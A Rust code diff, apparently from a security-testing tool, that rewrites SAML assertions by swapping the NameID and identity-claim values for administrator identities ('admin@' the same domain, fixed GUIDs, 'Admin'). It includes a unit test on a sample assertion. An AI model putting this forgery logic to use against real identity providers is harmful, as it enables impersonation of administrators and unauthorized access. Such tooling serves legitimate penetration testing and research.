@@ -23,27 +23,44 @@ pub fn is_identity_claim(name: &str) -> bool {
     IDENTITY_CLAIMS.iter().any(|c| c.eq_ignore_ascii_case(last))
 }
 
-/// The value a forgery puts where `genuine` was: `admin@` the same domain for addresses, a
-/// fixed GUID for object ids, `Admin` for display names and anything else.
+/// Candidate target values for `genuine`, best first: `admin@` the same domain for
+/// addresses, a fixed GUID for object ids, `Admin` for display names and anything else.
+fn candidates(genuine: &str) -> [String; 2] {
+    if let Some((_, domain)) = genuine.rsplit_once('@') {
+        return [format!("admin@{domain}"), format!("administrator@{domain}")];
+    }
+    if genuine.len() == 36 && genuine.matches('-').count() == 4 {
+        return [
+            "ad000000-0000-4000-8000-000000000001".into(),
+            "ad000000-0000-4000-8000-000000000002".into(),
+        ];
+    }
+    ["Admin".into(), "Administrator".into()]
+}
+
+/// The value a forgery puts where `genuine` was (never `genuine` itself).
 pub fn target_of(genuine: &str) -> String {
-    let candidates = |first: String, second: String| {
-        if first.eq_ignore_ascii_case(genuine) {
+    let [first, second] = candidates(genuine);
+    if first.eq_ignore_ascii_case(genuine) {
+        second
+    } else {
+        first
+    }
+}
+
+/// The forgery's mapping for `doc`: [`target_of`], but never a value `doc` already carries
+/// (so the target is always someone other than the user whose response was used).
+pub fn forger(doc: &Doc) -> impl Fn(&str) -> String {
+    let existing = values(doc);
+    move |genuine: &str| {
+        let taken = |c: &String| existing.iter().any(|e| e.eq_ignore_ascii_case(c));
+        let [first, second] = candidates(genuine);
+        if taken(&first) {
             second
         } else {
             first
         }
-    };
-    if let Some((_, domain)) = genuine.rsplit_once('@') {
-        return candidates(format!("admin@{domain}"), format!("administrator@{domain}"));
     }
-    let guid_shape = genuine.len() == 36 && genuine.matches('-').count() == 4;
-    if guid_shape {
-        return candidates(
-            "ad000000-0000-4000-8000-000000000001".into(),
-            "ad000000-0000-4000-8000-000000000002".into(),
-        );
-    }
-    candidates("Admin".into(), "Administrator".into())
 }
 
 /// The identity values in a response: NameID first, then identity claims, each once.
@@ -130,9 +147,9 @@ pub fn rewrite(
     (splice(doc.src, edits), swap)
 }
 
-/// Forges the target identity into `within`: see [`target_of`].
+/// Forges the target identity into `within`: see [`forger`].
 pub fn forge(doc: &Doc, within: std::ops::Range<usize>) -> (String, Swap) {
-    rewrite(doc, within, &target_of)
+    rewrite(doc, within, &forger(doc))
 }
 
 #[cfg(test)]
@@ -149,6 +166,11 @@ mod tests {
         assert_eq!(target_of("B.Simon"), "Admin");
         assert_eq!(target_of("Admin@contoso.com"), "administrator@contoso.com");
         assert_eq!(target_of("admin"), "Administrator");
+        let src = r#"<A xmlns="urn:oasis:names:tc:SAML:2.0:assertion"><NameID>b@x.test</NameID><Attribute Name="email"><AttributeValue>admin@x.test</AttributeValue></Attribute></A>"#;
+        assert_eq!(
+            forger(&Doc::parse(src).unwrap())("b@x.test"),
+            "administrator@x.test"
+        );
         assert!(is_identity_claim(
             "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress"
         ));
